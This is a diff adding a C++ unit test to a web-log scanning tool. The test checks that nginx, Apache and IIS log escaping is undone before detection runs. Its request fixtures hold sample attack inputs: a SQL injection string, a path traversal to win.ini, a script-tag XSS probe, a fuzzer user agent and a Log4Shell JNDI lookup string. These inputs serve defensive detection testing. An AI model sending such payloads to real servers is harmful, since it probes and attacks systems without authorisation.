@@ -347,5 +347,85 @@ TEST_F(PipelineTest, SitesFromHostNamesAreBounded) {
   EXPECT_NE(html.find("92 more"), std::string::npos);
 }
 
+// Issue 10: nginx writes '"' and '\\' as \xHH, Apache as \" and \\, IIS writes spaces in user
+// agents as '+'. The same traffic through each server's format gives the same detections.
+TEST_F(PipelineTest, ServerLogEscapingIsUndoneBeforeDetection) {
+  struct Req {
+    std::string target, ua;
+  };
+  const Req reqs[] = {
+      {"/item.php?id=\"%20or%20\"a\"=\"a", "Mozilla/5.0"},
+      {"/q?f=..\\..\\..\\windows\\win.ini", "Mozilla/5.0"},
+      {"/search?q=<script>alert(1)</script>", "Mozilla/5.0"},
+      {"/", "Fuzz Faster U Fool v2.1.0"},
+      {"/p?x=1", "Mozilla/5.0 (X11; Linux x86_64) ${jndi:ldap://x/a}"},
+      {"/home", "Mozilla/5.0 (Windows NT 10.0; Win64; x64)"},
+  };
+  auto nginx = [](const std::string& s) {
+    std::string o;
+    for (unsigned char c : s) {
+      if (c == '"' || c == '\\' || c < 0x20 || c > 0x7e) {
+        char b[8];
+        std::snprintf(b, sizeof b, "\\x%02X", c);
+        o += b;
+      } else {
+        o += static_cast<char>(c);
+      }
+    }
+    return o;
+  };
+  auto apache = [](const std::string& s) {
+    std::string o;
+    for (char c : s) o += c == '"' ? "\\\"" : c == '\\' ? "\\\\" : std::string(1, c);
+    return o;
+  };
+  std::string ng, ap, iis = "#Software: Microsoft Internet Information Services 10.0\n#Fields: date time s-ip "
+                              "cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) "
+                              "sc-status sc-substatus sc-win32-status time-taken\n";
+  int i = 0;
+  for (const Req& r : reqs) {
+    char ts[64];
+    std::snprintf(ts, sizeof ts, "16/Feb/2022:10:00:%02d +0900", i);
+    const std::string ip = "203.0.113." + std::to_string(50 + i);
+    ng += ip + " - - [" + ts + "] \"GET " + nginx(r.target) + " HTTP/1.1\" 404 1 \"-\" \"" + nginx(r.ua) + "\"\n";
+    ap += ip + " - - [" + ts + "] \"GET " + apache(r.target) + " HTTP/1.1\" 404 1 \"-\" \"" + apache(r.ua) + "\"\n";
+    const std::size_t q = r.target.find('?');
+    std::string ua = r.ua;
+    for (char& c : ua) c = c == ' ' ? '+' : c;
+    std::string stem = r.target.substr(0, q), query = q == std::string::npos ? "-" : r.target.substr(q + 1);
+    for (std::string* f : {&stem, &query}) {
+      std::string enc;
+      for (char c : *f) enc += c == ' ' ? std::string("%20") : std::string(1, c);
+      *f = enc;
+    }
+    char iis_ts[32];
+    std::snprintf(iis_ts, sizeof iis_ts, "2022-02-16 01:00:%02d", i);
+    iis += std::string(iis_ts) + " 10.0.0.1 GET " + stem + " " + query + " 443 - " + ip + " " + ua + " 404 0 0 5\n";
+    ++i;
+  }
+  WriteFile(dir_ / "n.log", ng);
+  WriteFile(dir_ / "a.log", ap);
+  WriteFile(dir_ / "i.log", iis);
+  auto detections = [&](const std::string& file, const char* format) {
+    store_ = std::move(store::OpenSqlite(":memory:")).value();
+    std::vector<std::string> out;
+    ScanOptions o;
+    o.behavior = false;
+    o.log_format = format;
+    o.on_detection = [&](const DetectionEvent& ev) {
+      std::string ids;
+      for (const detect::Hit& h : ev.detection->hits) ids += std::string(ev.detectors->specs()[h.detector].id) + " ";
+      out.push_back(std::string(ev.req->client_ip) + " " + ids);
+    };
+    Run({dir_ / file}, o);
+    std::sort(out.begin(), out.end());
+    return out;
+  };
+  const auto n = detections("n.log", "combined");
+  EXPECT_EQ(n.size(), 4u);  // (the SQL injection is not caught by the default detectors yet)
+  EXPECT_EQ(detections("a.log", "combined"), n);
+  EXPECT_EQ(detections("i.log", "iis"), n);
+}
+
 }  // namespace
 }  // namespace keikai::pipeline
